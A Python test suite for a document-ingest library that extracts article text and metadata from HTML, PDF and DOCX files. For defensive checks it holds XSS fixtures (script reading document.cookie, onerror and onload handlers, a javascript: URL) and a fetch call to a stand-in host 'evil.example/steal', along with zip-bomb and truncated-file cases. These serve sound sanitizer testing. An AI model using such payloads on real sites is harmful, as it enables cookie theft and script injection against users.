"""Ingest of structured formats: HTML (trafilatura), PDF (pypdf), DOCX (python-docx)."""

from __future__ import annotations

import datetime as dt
import io
import socket
from pathlib import Path

import docx
import pytest

from claimdiff.ingest import read_document
from claimdiff.ingest.docx import read_docx
from claimdiff.ingest.html import read_html
from claimdiff.ingest.pdf import read_pdf
from claimdiff.model import InputError

PARAGRAPHS = [
    "Several rounds of UN-backed peace talks have failed to end the conflict, which has "
    "killed more than 320,000 people since March 2011.",
    "The G-7 gathering in the Tuscan city of Lucca brought foreign ministers from the US as "
    "well as Britain, Canada, France, Germany, Italy and Japan to the Ducal Palace.",
    'Tillerson would "deliver that clear and co-ordinated message to the Russians", he said.',
]
BODY = "\n\n".join(PARAGRAPHS)


# --- HTML -------------------------------------------------------------------------------

PAGE = """<!DOCTYPE html>
<html><head>
<title>G7 ministers meet | Example News</title>
<meta property="og:site_name" content="Example News">
<meta property="og:title" content="G7 ministers meet in Lucca">
<meta property="article:published_time" content="2017-04-11T09:30:00Z">
<style>body {{ background: url(http://tracker.example/x.png) }}</style>
<script>document.title = "hacked"; fetch("http://evil.example/steal");</script>
</head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World news</a></li></ul></nav>
<div class="cookie-banner">We use cookies. Accept all cookies to continue.</div>
<article><h1>G7 ministers meet in Lucca</h1>
{paragraphs}
</article>
<aside class="related"><h2>Related stories</h2>
<ul><li><a href="/a">Other story</a></li></ul></aside>
<footer>Copyright 2017 Example News. Privacy policy. Terms of use.</footer>
<script>alert("end")</script>
</body></html>"""


def _page(paragraphs: list[str]) -> str:
    return PAGE.format(paragraphs="\n".join(f"<p>{p}</p>" for p in paragraphs))


def test_html_main_text_without_boilerplate_and_with_metadata() -> None:
    article = read_html(_page(PARAGRAPHS), name="page.html")
    assert article.text == BODY
    assert article.title == "G7 ministers meet in Lucca"
    assert article.source == "Example News"
    assert article.published == dt.date(2017, 4, 11)


@pytest.mark.parametrize(
    "hostile",
    [
        '<img src="x" onerror="alert(1)">',  # event handler attribute
        "<script>alert(document.cookie)</script>",  # inline script in the body
        '<iframe src="http://evil.example/"></iframe>',  # frame
        "<style>p { color: red }</style>",  # inline style sheet
        '<a href="javascript:alert(1)">click</a>',  # javascript: URL, text kept only
        "<svg onload=alert(1)><circle r=1></svg>",  # SVG with handler
    ],
)
def test_hostile_html_leaves_no_markup_or_script(hostile: str) -> None:
    paragraphs = [
        PARAGRAPHS[0],
        f"Officials spoke {hostile} to reporters on Monday.",
        *PARAGRAPHS[1:],
    ]
    article = read_html(_page(paragraphs), name="page.html")
    for fragment in ("alert", "<", "onerror", "onload", "color: red", "evil.example", "cookie"):
        assert fragment not in article.text
    assert "Officials spoke" in article.text
    assert PARAGRAPHS[2] in article.text


def test_html_is_read_without_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    assert read_html(_page(PARAGRAPHS), name="p.html").text == BODY


def test_tiny_html_page_falls_back_to_visible_text() -> None:
    article = read_html("<p>Ministers met.</p><script>x()</script>", name="tiny.html")
    assert article.text == "Ministers met."


def test_html_page_without_text_is_refused() -> None:
    with pytest.raises(InputError, match=r"empty\.html: no article text found"):
        read_html(
            "<html><body><nav>Home</nav><script>x()</script></body></html>", name="empty.html"
        )


def test_deeply_nested_html_does_not_crash() -> None:
    markup = "<div>" * 5000 + "<p>" + PARAGRAPHS[0] + "</p>" + "</div>" * 5000
    try:
        article = read_html(markup, name="deep.html")
    except InputError as error:  # refusing is fine; crashing is not
        assert "deep.html" in str(error)
    else:
        assert "320,000" in article.text


# --- PDF --------------------------------------------------------------------------------


def make_pdf(lines: list[str | None], *, info: str = "", with_text: bool = True) -> bytes:
    """A one-page PDF with a Helvetica text layer; ``None`` leaves a blank line."""
    ops = ["BT", "/F1 11 Tf", "14 TL", "72 770 Td"]
    for line in lines:
        escaped = (line or "").replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"({escaped}) Tj T*" if line is not None else "T*")
    ops.append("ET")
    content = "\n".join(ops) if with_text else "0 0 m 100 100 l S"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        "/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        f"<< {info} >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Info 6 0 R >>\n"
    out.write(f"{trailer}startxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def _wrapped(paragraph: str, width: int = 60) -> list[str | None]:
    lines: list[str | None] = []
    current = ""
    for word in paragraph.split():
        if current and len(current) + len(word) + 1 > width:
            lines.append(current)
            current = word
        else:
            current = f"{current} {word}".strip()
    return [*lines, current, None]


def test_pdf_lines_are_joined_into_paragraphs() -> None:
    lines = [line for p in PARAGRAPHS for line in _wrapped(p)]
    info = "/Title (G7 in Lucca) /Author (AFP) /CreationDate (D:20170411093000Z)"
    article = read_pdf(make_pdf(lines, info=info), name="a.pdf")
    assert article.text == BODY
    assert (article.title, article.source, article.created) == (
        "G7 in Lucca",
        "AFP",
        dt.date(2017, 4, 11),
    )


def test_pdf_line_broken_after_a_hyphen_keeps_the_compound() -> None:
    lines: list[str | None] = ["Tillerson would deliver a clear and co-", "ordinated message."]
    assert read_pdf(make_pdf(lines), name="a.pdf").text == (
        "Tillerson would deliver a clear and co-ordinated message."
    )


def test_pdf_page_numbers_are_not_text() -> None:
    lines: list[str | None] = [PARAGRAPHS[0], None, None, "3"]
    assert read_pdf(make_pdf(lines), name="a.pdf").text == PARAGRAPHS[0]


def test_pdf_without_text_layer_is_refused() -> None:
    with pytest.raises(InputError, match=r"scan\.pdf: the PDF has no text layer"):
        read_pdf(make_pdf([], with_text=False), name="scan.pdf")


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.9])
def test_truncated_pdf_is_refused(keep: float) -> None:
    data = make_pdf([line for p in PARAGRAPHS for line in _wrapped(p)])
    with pytest.raises(InputError, match=r"cut\.pdf: the PDF is damaged or incomplete"):
        read_pdf(data[: int(len(data) * keep)], name="cut.pdf")


def test_pdf_named_txt_is_read_as_pdf(tmp_path: Path) -> None:
    path = tmp_path / "article.txt"
    path.write_bytes(make_pdf([line for p in PARAGRAPHS for line in _wrapped(p)]))
    document = read_document(path)
    assert (document.fmt, document.text) == ("pdf", BODY)


# --- DOCX -------------------------------------------------------------------------------


def make_docx(paragraphs: list[str], *, title: str = "", author: str = "") -> bytes:
    document = docx.Document()
    document.add_heading("G7 ministers meet in Lucca", level=1)
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    document.add_paragraph("")
    properties = document.core_properties
    properties.title = title
    properties.author = author
    properties.created = dt.datetime(2017, 4, 11, 9, 30)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def test_docx_paragraphs_and_core_properties() -> None:
    article = read_docx(make_docx(PARAGRAPHS, title="G7 in Lucca", author="AFP"), name="a.docx")
    assert article.text == BODY
    assert (article.title, article.source, article.created) == (
        "G7 in Lucca",
        "AFP",
        dt.date(2017, 4, 11),
    )


def test_docx_tables_are_read_in_place_one_row_per_paragraph() -> None:
    document = docx.Document()
    document.add_paragraph("Casualties reported on Tuesday:")
    table = document.add_table(rows=3, cols=2)
    for row, cells in zip(table.rows, [("Killed", "24"), ("Injured", "96"), ("", "")], strict=True):
        for cell, text in zip(row.cells, cells, strict=True):
            cell.text = text
    merged = document.add_table(rows=1, cols=2)
    merged.cell(0, 0).merge(merged.cell(0, 1)).text = "Source: the health ministry"
    document.add_paragraph("The toll may rise.")
    out = io.BytesIO()
    document.save(out)
    article = read_docx(out.getvalue(), name="a.docx")
    # the empty row is dropped; a merged cell counts once
    assert article.text.split("\n\n") == [
        "Casualties reported on Tuesday:",
        "Killed; 24",
        "Injured; 96",
        "Source: the health ministry",
        "The toll may rise.",
    ]


def test_docx_heading_becomes_title_when_core_title_is_empty() -> None:
    article = read_docx(make_docx(PARAGRAPHS, author="python-docx"), name="a.docx")
    assert (article.title, article.source) == ("G7 ministers meet in Lucca", None)


def test_docx_created_date_yields_to_the_dateline(tmp_path: Path) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(make_docx([" date 2017-04-09 " + PARAGRAPHS[0], *PARAGRAPHS[1:]]))
    document = read_document(path)
    assert document.published == dt.date(2017, 4, 9)
    assert document.text == BODY


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (lambda: make_docx(PARAGRAPHS)[:-200], "damaged or incomplete"),  # cut off at the end
        (lambda: make_docx(PARAGRAPHS)[:300], "damaged or incomplete"),  # only the first bytes
        (lambda: _zip({"hello.txt": b"hi"}), "not a Word"),  # a ZIP that is no DOCX
    ],
)
def test_broken_docx_is_refused(data: object, message: str) -> None:
    with pytest.raises(InputError, match=f"a.docx: .*{message}"):
        read_docx(data(), name="a.docx")  # type: ignore[operator]


def _zip(files: dict[str, bytes]) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_docx_zip_bomb_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    import claimdiff.ingest.docx as reader

    monkeypatch.setattr(reader, "MAX_UNZIPPED", 1000)
    with pytest.raises(InputError, match="unpacks to over"):
        read_docx(make_docx(PARAGRAPHS), name="bomb.docx")


@pytest.mark.parametrize(
    ("charset", "encoding"),
    [
        ("windows-1252", "cp1252"),  # declared Windows encoding with curly quotes
        ("iso-8859-1", "latin-1"),  # declared Latin-1
        ("utf-8", "utf-8"),  # declared UTF-8
    ],
)
def test_html_declared_charset_is_honoured(tmp_path: Path, charset: str, encoding: str) -> None:
    quote = "“clear message”" if encoding != "latin-1" else '"clear message"'
    paragraphs = [*PARAGRAPHS[:2], f"The café owner in Lucca said a {quote} was sent to Moscow."]
    page = _page(paragraphs).replace("<head>", f'<head><meta charset="{charset}">')
    path = tmp_path / "page.html"
    path.write_bytes(page.encode(encoding))
    document = read_document(path)
    assert f"The café owner in Lucca said a {quote} was sent" in document.text
    assert document.fmt == "html"
